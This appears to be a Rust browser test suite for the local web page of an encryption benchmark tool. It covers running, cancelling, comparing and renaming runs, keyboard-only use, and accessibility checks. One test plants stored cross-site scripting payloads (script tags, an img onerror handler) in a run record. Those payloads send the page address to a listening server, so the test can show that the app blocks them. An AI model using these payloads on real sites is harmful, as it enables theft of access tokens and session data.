//! The local page in a real browser: a run is started, watched, cancelled and compared, with the keyboard alone,
//! and from two pages at the same time. axe-core checks each view.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::page::devtools::Tab;
use crate::page::{ANSWER, ESTIMATES, PHASE, Stage, axe, small, start};
use crate::sandbox::{nightly, skipped};
use serde_json::Value;

/// The directory for screenshots, if the developer asked for them.
fn shots() -> Option<PathBuf> {
    std::env::var_os("CRYPTBENCH_SCREENSHOTS").map(PathBuf::from)
}

/// The elements that extend beyond a window of this width. A browser widens the page for them.
const BEYOND: &str = "[...document.querySelectorAll('body *')]
    .filter((e) => e.getBoundingClientRect().right > WIDTH)
    .map((e) => `${e.tagName} ${e.id} ${e.getAttribute('class')}`).join(', ')";

/// Checks the view at both widths and in both colour schemes: nothing is wider than the window, and axe-core finds
/// nothing. Saves screenshots if asked for.
fn look(tab: &mut Tab, name: &str, axe: Option<&str>) {
    for (width, height) in [(1280, 800), (390, 800)] {
        for scheme in ["light", "dark"] {
            // Width and scheme are almost independent, so if there is little time, each is only checked once.
            if !nightly() && (width == 1280) != (scheme == "light") {
                continue;
            }
            tab.size(width, height);
            tab.scheme(scheme);
            let wide = tab.eval("document.documentElement.scrollWidth");
            let beyond = tab.eval(&BEYOND.replace("WIDTH", &width.to_string()));
            assert!(
                wide.as_u64().unwrap() <= u64::from(width),
                "{name} at {width}: {wide} wide, by {beyond}"
            );
            if let Some(directory) = shots() {
                tab.screenshot(&directory.join(format!("{name}-{width}-{scheme}.png")));
            }
            if let Some(script) = axe {
                let faults = axe::faults(tab, script);
                assert!(faults.is_empty(), "{name}, {width}, {scheme}: {faults:#?}");
            }
        }
    }
    tab.size(1280, 800);
    tab.scheme("light");
}

fn axe_script() -> Option<String> {
    axe::script().map_err(|why| skipped(&format!("axe-core: {why}"))).ok()
}

fn click(tab: &mut Tab, id: &str) {
    tab.eval(&format!("document.getElementById('{id}').click()"));
}

#[test]
fn a_run_is_watched_to_its_end_and_can_be_read_by_everybody() {
    let Some(stage) = Stage::new() else { return };
    let s = &stage.s;
    let axe = axe_script();
    let axe = axe.as_deref();
    let mut tab = stage.open();

    // The plan, before anything is written.
    small(&mut tab, &s.target(), 26);
    click(&mut tab, "see-plan");
    tab.wait("document.querySelector('#plan dl') !== null");
    assert!(tab.text("document.getElementById('plan').innerText").contains("Would write"));
    assert!(s.left_behind().is_empty(), "a plan writes nothing");
    // The disk of the directory can be selected.
    let disks = tab.eval("document.querySelectorAll('#mounted option').length");
    assert!(disks.as_u64() > Some(0), "{disks}");
    look(&mut tab, "new", axe);
    assert!(tab.complaints().is_empty(), "{:?}", tab.complaints());

    // A second page sees the run that the first one starts, and both agree at the end.
    let mut other = stage.open();
    other.eval("location.hash = '#live'");
    // With few arms, there are three repetitions even on a busy machine; estimates are shown only from then on.
    click(&mut tab, "builtin-only");
    start(&mut tab, &s.target(), 30);
    tab.wait(ESTIMATES);
    other.wait(ESTIMATES);
    look(&mut tab, "live", axe);

    // After a reload in the middle, it still has the earlier events.
    tab.reload();
    tab.wait(ESTIMATES);
    tab.wait(ANSWER);
    other.wait(ANSWER);
    assert_eq!(tab.text(PHASE), "The run has finished.");
    let seen = "document.getElementById('view-live').innerText";
    assert_eq!(tab.text(seen), other.text(seen));
    look(&mut tab, "ended", axe);
    tab.reload();
    tab.wait(ANSWER);
    assert_eq!(tab.text(seen), other.text(seen), "after a reload, too");

    // The report of the run, in a separate origin.
    let report = tab.text("document.querySelector('#result a[href$=\"report.html\"]').href");
    for page in [&mut tab, &mut other] {
        assert!(page.complaints().is_empty(), "{:?}", page.complaints());
    }
    let mut page = stage.browser.tab();
    page.goto(&report);
    assert!(page.text("document.title").starts_with("What encryption costs"));
    assert_eq!(page.text("window.origin"), "null");
    look(&mut page, "report", axe);
    assert!(page.complaints().is_empty(), "{:?}", page.complaints());
    assert!(s.left_behind().is_empty(), "{:?}", s.left_behind());
}

#[test]
fn a_run_is_cancelled_and_two_are_compared() {
    let Some(stage) = Stage::new() else { return };
    let s = &stage.s;
    for _ in 0..2 {
        let done = s.run(&s.tiny(&["--quiet"]));
        assert!(done.status.success());
    }
    let mut tab = stage.open();
    start(&mut tab, &s.target(), 90);
    tab.wait(ESTIMATES);

    // Other views mention the run, and do not offer anything that would disturb it.
    tab.eval("location.hash = '#runs'");
    let list = "document.getElementById('runs').innerText";
    tab.wait(&format!("{list}.includes('when the run has finished')"));
    assert_eq!(tab.eval("document.querySelector('#runs a[href*=export]')"), Value::Null);
    assert!(tab.text("document.getElementById('news').innerText").contains("is in progress"));
    // One run at a time.
    assert_eq!(tab.eval("document.getElementById('start').disabled"), true);
    tab.eval("location.hash = '#live'");
    tab.wait(ESTIMATES);
    tab.eval("document.getElementById('cancel').focus()");
    click(&mut tab, "cancel");
    tab.wait(ANSWER);
    assert!(tab.text(PHASE).starts_with("The run was cancelled."), "{}", tab.text(PHASE));
    assert_eq!(tab.text("document.activeElement.id"), "title-live", "the focus is not lost");
    assert!(s.left_behind().is_empty(), "{:?}", s.left_behind());

    tab.eval("location.hash = '#runs'");
    tab.wait("document.querySelectorAll('#runs input').length === 3");
    assert!(tab.text(list).contains("cancelled, partial"), "{}", tab.text(list));
    tab.eval(
        "[...document.querySelectorAll('#runs input')].slice(1).forEach((box) => box.click())",
    );
    let axe = axe_script();
    look(&mut tab, "runs", axe.as_deref());
    click(&mut tab, "compare");
    tab.wait("document.querySelectorAll('#comparison tbody tr').length > 0");
    look(&mut tab, "compare", axe.as_deref());
    // The answer comes first, and the runs are identified by their dates.
    let headline = tab.text("document.querySelector('#comparison > .headline').textContent");
    assert!(headline.starts_with("B") || headline.starts_with("A and B"), "{headline}");
    let two = tab.text("document.getElementById('comparing').textContent");
    assert!(two.starts_with("A, the baseline: ") && !two.contains("-"), "{two}");
    assert_eq!(tab.eval("document.getElementById('start').disabled"), false);
    // Every offered download works.
    tab.eval("history.back()");
    tab.wait("!document.getElementById('view-runs').hidden");
    let sizes = tab.eval(
        "Promise.all([...document.querySelector('#runs li').querySelectorAll('a')].map(async (a) => {
            const r = await fetch(a.href); return r.ok ? (await r.blob()).size : -r.status; }))",
    );
    let sizes = sizes.as_array().unwrap();
    assert!(sizes.len() >= 5 && sizes.iter().all(|n| n.as_i64() > Some(100)), "{sizes:?}");
    assert!(tab.complaints().is_empty(), "{:?}", tab.complaints());
}

#[test]
fn a_pair_and_an_emulated_run_are_planned_and_a_wrong_value_is_said_at_its_field() {
    let Some(stage) = Stage::new() else { return };
    let s = &stage.s;
    let axe = axe_script();
    let axe = axe.as_deref();
    let mut tab = stage.open();
    let beside = s.out().join("beside");
    std::fs::create_dir(&beside).unwrap();
    let set = |tab: &mut Tab, id: &str, value: &str| {
        let value = serde_json::json!(value);
        tab.eval(&format!("document.getElementById('{id}').value = {value}"));
    };
    let plan = "document.getElementById('plan').innerText";

    click(&mut tab, "kind-pair");
    assert_eq!(tab.eval("document.getElementById('system').getClientRects().length"), 0);
    set(&mut tab, "plain", s.target().to_str().unwrap());
    set(&mut tab, "encrypted", s.out().join("gone").to_str().unwrap());
    set(&mut tab, "size", "16MiB");
    for (id, value) in
        [("encrypted", s.out().join("gone/deeper").to_str().unwrap()), ("budget", "soon")]
    {
        set(&mut tab, id, value);
        click(&mut tab, "see-plan");
        tab.wait(&format!(
            "document.getElementById('wrong')?.previousElementSibling.id === '{id}'"
        ));
        assert_eq!(tab.text("document.activeElement.id"), id);
        set(&mut tab, "encrypted", beside.to_str().unwrap());
    }
    // The reason is the same as in a terminal, and the field has the name used on the page.
    let said = tab.text("document.getElementById('wrong').textContent");
    let terminal = s.run(&["run", "--budget", "soon"]);
    let reason = said.strip_prefix("Time budget: ").expect(&said);
    assert!(crate::sandbox::text(&terminal.stderr).contains(reason), "{said}");
    look(&mut tab, "pair-wrong", axe);
    set(&mut tab, "budget", "26s");
    click(&mut tab, "see-plan");
    tab.wait("document.querySelector('#plan dl') !== null");
    assert!(tab.text(plan).contains(beside.to_str().unwrap()), "{}", tab.text(plan));
    look(&mut tab, "pair", axe);

    click(&mut tab, "kind-emulate");
    set(&mut tab, "emulate", "hdd-7200");
    click(&mut tab, "see-plan");
    tab.wait(&format!("{plan}.includes('EMULATED')"));
    look(&mut tab, "emulate", axe);
    let refused = tab.complaints().into_iter().filter(|c| !c.contains("422")).collect::<Vec<_>>();
    assert!(refused.is_empty(), "{refused:?}");
    assert!(s.left_behind().is_empty(), "a plan writes nothing");
}

#[test]
fn a_run_is_renamed_and_deleted_once_that_is_confirmed() {
    let Some(stage) = Stage::new() else { return };
    let s = &stage.s;
    assert!(s.run(&s.tiny(&["--quiet"])).status.success());
    let runs = s.out().with_file_name("home").join(".local/share/cryptbench/runs");
    let run = std::fs::read_dir(&runs).unwrap().flatten().next().unwrap().path();
    let record = std::fs::read(run.join("record.json")).unwrap();
    let axe = axe_script();
    let mut tab = stage.open();
    tab.eval("location.hash = '#runs'");
    let link = "document.querySelector('#runs h3 a')";
    tab.wait(&format!("{link} !== null"));
    tab.eval(&format!("{link}.click()"));
    tab.wait("document.querySelector('#run-answer .answer table') !== null");
    // The answer comes first, in the same words as in a terminal.
    let headline = tab.text("document.querySelector('#run-answer .headline').textContent");
    let terminal = crate::sandbox::text(&s.run(&["report", "last"]).stdout);
    let flat = terminal.split_whitespace().collect::<Vec<_>>().join(" ");
    let headline = headline.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(flat.starts_with(&headline), "{headline}\n{terminal}");
    look(&mut tab, "run", axe.as_deref());

    let title = "<b>laptop</b> & \"disk\"";
    tab.eval("document.getElementById('title').focus()");
    tab.type_in(title);
    tab.press("Enter", false);
    tab.wait("document.getElementById('renamed').textContent === 'Saved.'");
    assert_eq!(tab.text("document.getElementById('title-run').textContent"), title);
    assert_eq!(std::fs::read(run.join("record.json")).unwrap(), record);
    let report = crate::sandbox::text(&s.run(&["report", "last", "--full"]).stdout);
    assert!(report.contains(title), "{report}");
    let page = std::fs::read_to_string(run.join("report.html")).unwrap();
    assert!(page.contains("&lt;b&gt;laptop&lt;/b&gt; &amp;") && !page.contains("<b>laptop"));
    assert!(s.run(&["history", "add", run.to_str().unwrap()]).status.success());
    assert!(crate::sandbox::text(&s.run(&["history", "list"]).stdout).contains("laptop"));

    // A suggestion that would answer an open question fills in the form.
    let filled = tab.eval(
        "import('./js/form.js').then(({ askedBy, fill }) => {
            fill(askedBy(\"cryptbench run '/tmp/a b' --systems builtin --budget 7m\"));
            const value = (id) => document.getElementById(id).value;
            const chosen = [...document.getElementsByName('system')].filter((b) => b.checked);
            return [value('directory'), value('budget'), chosen.map((b) => b.value).join(),
                askedBy('sudo cryptbench run'), askedBy('cryptbench run --nosuch 1')];
        })",
    );
    assert_eq!(filled, serde_json::json!(["/tmp/a b", "7m", "builtin", null, null]));
    tab.wait("location.hash === '#new'");
    tab.eval("history.back()");
    tab.wait("location.hash.startsWith('#run/')");
    tab.wait("document.querySelector('#run-answer .answer table') !== null");

    click(&mut tab, "delete");
    assert_eq!(tab.text("document.activeElement.id"), "keep");
    look(&mut tab, "delete", axe.as_deref());
    click(&mut tab, "keep");
    assert_eq!(tab.eval("document.getElementById('sure').hidden"), true);
    click(&mut tab, "delete");
    click(&mut tab, "delete-now");
    tab.wait("location.hash === '#runs'");
    tab.wait("document.getElementById('runs').innerText.includes('There are no runs yet')");
    assert!(!run.exists());
    assert!(tab.complaints().is_empty(), "{:?}", tab.complaints());
}

#[test]
fn the_keyboard_suffices() {
    let Some(stage) = Stage::new() else { return };
    let s = &stage.s;
    let mut tab = stage.open();
    reach(&mut tab, "directory");
    tab.eval("document.activeElement.select()");
    tab.type_in(s.target().to_str().unwrap());
    reach(&mut tab, "budget");
    tab.type_in("no time");
    reach(&mut tab, "start");
    tab.press("Enter", false);
    // The page says what is wrong, and focuses the field in which it can be corrected.
    tab.wait("document.getElementById('problem').textContent !== ''");
    assert_eq!(tab.text("document.activeElement.id"), "budget");
    tab.eval("document.activeElement.select()");
    tab.type_in("26s");
    tab.press("Tab", false);
    assert_eq!(tab.text("document.activeElement.tagName"), "SUMMARY");
    tab.press("Enter", false);
    reach(&mut tab, "size");
    tab.type_in("16MiB");
    reach(&mut tab, "start");
    tab.press("Space", false);
    tab.wait("location.hash === '#live'");
    tab.wait("document.activeElement.id === 'title-live'");
    reach(&mut tab, "cancel");
    tab.press("Enter", false);
    tab.wait(&format!(
        "{PHASE}.startsWith('The run was cancelled') || {PHASE} === 'The run has finished.'"
    ));
    let refused = tab.complaints().into_iter().filter(|c| !c.contains("422")).collect::<Vec<_>>();
    assert!(refused.is_empty(), "{refused:?}");
}

/// Presses Tab until the element has the focus. Every element on the way must be visible.
fn reach(tab: &mut Tab, id: &str) {
    for _ in 0..120 {
        if tab.text("document.activeElement.id") == id {
            return;
        }
        tab.press("Tab", false);
        let shown = "(() => { const e = document.activeElement; return e === document.body
            || (e.getClientRects().length > 0 && getComputedStyle(e).outlineStyle !== 'none'); })()";
        let seen = tab.eval(shown);
        assert_eq!(seen, true, "{}", tab.text("document.activeElement.outerHTML"));
    }
    panic!("the keyboard does not reach {id}");
}

#[test]
fn what_would_be_overwritten_has_to_be_named_twice() {
    let Some(stage) = Stage::new() else { return };
    let s = &stage.s;
    let disk = s.out().join("disk.img");
    std::fs::File::create(&disk).unwrap().set_len(64 << 20).unwrap();
    let mut tab = stage.open();
    small(&mut tab, &s.target(), 90);
    let name = serde_json::json!(disk);
    tab.eval(&format!(
        "document.getElementById('kind-device').click();
         document.getElementById('size').value = '';
         document.getElementById('device').value = {name};"
    ));
    for typed in ["", "disk.img"] {
        tab.eval(&format!("document.getElementById('confirm').value = '{typed}'"));
        click(&mut tab, "start");
        tab.wait(
            "document.getElementById('problem').textContent.includes('type its exact path again')",
        );
        assert_eq!(tab.text("document.activeElement.id"), "confirm");
        tab.eval("document.getElementById('problem').textContent = ''");
    }
    assert!(is_zero(&disk), "nothing was written");
    tab.eval(&format!("document.getElementById('confirm').value = {name}"));
    let axe = axe_script();
    look(&mut tab, "device", axe.as_deref());
    click(&mut tab, "start");
    tab.wait("location.hash === '#live'");
    tab.wait("!document.getElementById('cancel').hidden");
    tab.wait(&format!("{ESTIMATES} || {PHASE}.startsWith('The run failed')"));
    tab.eval(
        "document.getElementById('cancel').hidden || document.getElementById('cancel').click()",
    );
    tab.wait(ANSWER);
    assert!(!is_zero(&disk));
    let refused = tab.complaints().into_iter().filter(|c| !c.contains("422")).collect::<Vec<_>>();
    assert!(refused.is_empty(), "{refused:?}");
}

/// A server of another user: its address, and the requests that it received.
fn stranger() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}/", listener.local_addr().unwrap());
    let heard = Arc::new(Mutex::new(Vec::new()));
    let hears = Arc::clone(&heard);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let hears = Arc::clone(&hears);
            // Each connection in its own thread, because browsers also open connections on which they send nothing.
            std::thread::spawn(move || {
                let mut head = [0; 8192];
                let n = stream.read(&mut head).unwrap_or(0);
                if n > 0 {
                    hears.lock().unwrap().push(crate::sandbox::text(&head[..n]));
                    let _ = stream.write_all(
                        b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                    );
                }
            });
        }
    });
    (address, heard)
}

#[test]
fn a_strangers_run_does_not_learn_the_address_of_the_page() {
    let Some(stage) = Stage::new() else { return };
    let s = &stage.s;
    assert!(s.run(&s.tiny(&["--quiet"])).status.success());
    let (address, heard) = stranger();
    let tells = |from: &str| {
        format!(
            "var u = '{address}?{from}&' + location.href; new Image().src = u; \
             fetch(u, {{ mode: 'no-cors' }}).catch(() => 0); location = u"
        )
    };
    let script = tells("record");
    let markup = format!(
        "evil</script><script>{script}</script>\"><img src=x onerror=\"{script}\"> --><!--"
    );
    let runs = s.out().with_file_name("home").join(".local/share/cryptbench/runs");
    let run = std::fs::read_dir(runs).unwrap().flatten().next().unwrap().path();
    let file = run.join("record.json");
    let mut record: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    let evil = Value::from(markup);
    record["notes"].as_array_mut().unwrap().push(evil.clone());
    for kind in ["arms", "workloads"] {
        for one in record["plan"][kind].as_array_mut().unwrap() {
            one["label"] = evil.clone();
        }
    }
    for name in ["cpu_model", "kernel", "os"] {
        record["machine"][name] = evil.clone();
    }
    for name in ["directory", "filesystem", "mount_options", "source"] {
        record["target"][name] = evil.clone();
    }
    if record["target"]["device"].is_object() {
        record["target"]["device"]["model"] = evil.clone();
    }
    for kind in ["headline", "sentences"] {
        for sentence in record["results"][kind].as_array_mut().unwrap() {
            *sentence = evil.clone();
        }
    }
    std::fs::write(&file, record.to_string()).unwrap();
    let page = format!(
        "<!DOCTYPE html><title>x</title><h1>What encryption costs</h1><script>{}</script>",
        tells("stored")
    );
    std::fs::write(run.join("report.html"), page).unwrap();

    let mut tab = stage.open();
    tab.eval("location.hash = '#runs'");
    let link = "document.querySelector('#runs a[href$=\"report.html\"]')";
    tab.wait(&format!("{link} !== null"));
    assert!(tab.text("document.getElementById('runs').innerText").contains("onerror="));
    // Opened as a user would, but in this tab, so that it can be checked, and after a delay, so that the call
    // returns first.
    tab.eval(&format!("{link}.target = ''; setTimeout(() => {link}.click(), 200); 0"));
    std::thread::sleep(Duration::from_secs(4));
    assert_eq!(*heard.lock().unwrap(), [""; 0]);
    tab.wait("location.hash === '' && document.querySelector('h1') !== null");
    // Time for a script to send something, if loading took longer.
    std::thread::sleep(Duration::from_secs(1));
    assert_eq!(*heard.lock().unwrap(), [""; 0]);
    let shown = tab.text("document.body.innerText");
    assert!(shown.contains("Details") && shown.contains("onerror="), "{shown:.2000}");
    assert_eq!(tab.text("window.origin"), "null");

    // If a script ran after all, it could not find the token anywhere.
    let token = stage.serving.address.trim_end_matches('/').rsplit('/').next().unwrap();
    let knows = tab.text(
        "JSON.stringify([location.href, document.URL, document.baseURI, document.referrer, window.name,
            history.state, window.opener, performance.getEntries(),
            window.navigation ? navigation.entries().map((e) => e.url) : []])",
    );
    assert!(knows.contains("/report/") && !knows.contains(token), "{knows}");
    // The other server would have received the request.
    tab.eval(&format!("setTimeout(() => {{ {} }}, 200); 0", tells("control")));
    let begun = Instant::now();
    while heard.lock().unwrap().is_empty() {
        assert!(begun.elapsed() < Duration::from_secs(60), "the stranger hears nothing");
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(!heard.lock().unwrap().iter().any(|said| said.contains(token)), "{heard:?}");
}

fn is_zero(path: &Path) -> bool {
    std::fs::read(path).unwrap().iter().all(|byte| *byte == 0)
}

#[test]
fn a_run_that_fails_says_why() {
    let Some(stage) = Stage::new() else { return };
    let s = &stage.s;
    let mut tab = stage.open();
    // There is a file in place of the directory of runs, which a plan does not notice.
    let data = s.out().with_file_name("home").join(".local/share/cryptbench");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("runs"), "").unwrap();
    start(&mut tab, &s.target(), 26);
    tab.wait(&format!("{PHASE}.startsWith('The run failed (exit code 3)')"));
    assert!(tab.text(PHASE).contains("cryptbench/runs"), "{}", tab.text(PHASE));
    assert_eq!(tab.eval("document.getElementById('cancel').hidden"), true);
    let axe = axe_script();
    look(&mut tab, "failed", axe.as_deref());

    // A missing directory is refused at its field before anything is started.
    let gone = s.out().join("no-such-directory/deeper");
    tab.eval("location.hash = '#new'");
    small(&mut tab, &gone, 26);
    click(&mut tab, "start");
    tab.wait("document.getElementById('wrong') !== null");
    assert_eq!(tab.text("document.activeElement.id"), "directory");
    let said = tab.text("document.getElementById('wrong').textContent");
    assert!(said.contains("no-such-directory"), "{said}");

    // A file in place of a directory is refused at its field, with a reason.
    let file = s.out().join("file");
    std::fs::write(&file, "precious").unwrap();
    small(&mut tab, &file, 26);
    click(&mut tab, "start");
    tab.wait("document.getElementById('wrong')?.textContent.startsWith('This is not a directory')");
    assert_eq!(tab.text("document.activeElement.id"), "directory");
    let described = tab.text("document.activeElement.getAttribute('aria-describedby')");
    assert_eq!(described, "wrong");
    look(&mut tab, "wrong", axe.as_deref());
    assert_eq!(std::fs::read(&file).unwrap(), b"precious");
}

#[test]
fn a_page_whose_server_is_gone_says_so_and_what_to_do() {
    let Some(mut stage) = Stage::new() else { return };
    let mut tab = stage.open();
    let axe = axe_script();

    // An address from an earlier start of the server.
    let token = stage.serving.address.trim_end_matches('/').rsplit('/').next().unwrap().to_owned();
    let mut old = stage.browser.tab();
    old.goto(&stage.serving.address.replace(&token, &"0".repeat(token.len())));
    assert!(old.text("document.body.innerText").contains("Open the whole address"));
    look(&mut old, "old", axe.as_deref());

    let port: u16 = stage.serving.address.split(['/', ':']).nth(4).unwrap().parse().unwrap();
    stage.serving.kill();
    let banner = "document.getElementById('connection').innerText";
    tab.wait(&format!("{banner}.includes('does not respond')"));
    look(&mut tab, "lost", axe.as_deref());
    // A new server has its port but a different address, and refuses the old one, as every server does.
    // A process that another test has just forked may hold the old server's socket for a moment.
    let until = Instant::now() + Duration::from_secs(5);
    let other = loop {
        match TcpListener::bind(("127.0.0.1", port)) {
            Err(e) if e.kind() == std::io::ErrorKind::AddrInUse && Instant::now() < until => {
                std::thread::sleep(Duration::from_millis(20));
            }
            bound => break bound.unwrap(),
        }
    };
    std::thread::spawn(move || {
        for stream in other.incoming().flatten() {
            let mut stream = &stream;
            if stream.read(&mut [0; 4096]).is_ok_and(|n| n > 0) {
                let answer =
                    b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
                let _ = stream.write_all(answer);
            }
        }
    });
    tab.wait(&format!("{banner}.includes('no longer valid')"));
}
